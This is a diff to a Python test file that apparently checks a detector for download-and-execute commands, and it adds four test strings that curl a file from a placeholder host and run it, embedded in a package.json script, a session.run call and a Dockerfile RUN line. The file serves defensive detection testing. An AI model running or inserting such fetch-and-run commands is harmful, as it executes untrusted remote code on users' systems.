@@ -127,6 +127,20 @@ def test_over_several_lines(text: str, first: int, last: int, how: str) -> None:
     assert (one.first, one.last, one.how) == (first, last, how)
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"scripts": {"test": "curl -o f https://x.invalid/f; chmod +x f; ./f"}}',
+        "session.run('sh', '-c', 'curl -o f https://x.invalid/f && sh f')",
+        "curl -H 'a; b' -o f https://x.invalid/f; sh f",
+        'RUN ["sh", "-c", "curl -o f https://x.invalid/f\\nsh f"]',
+    ],
+)
+def test_separators_in_quotes(text: str) -> None:
+    (one,) = in_text(text)
+    assert one.how == "run"
+
+
 def test_yaml_that_folds_lines() -> None:
     text = "run: >-\n  curl -s\n  https://x.invalid/a\n  | sh\nother: 1\n"
     assert [(one.first, one.last) for one in in_text(text, folding=True)] == [(1, 4)]
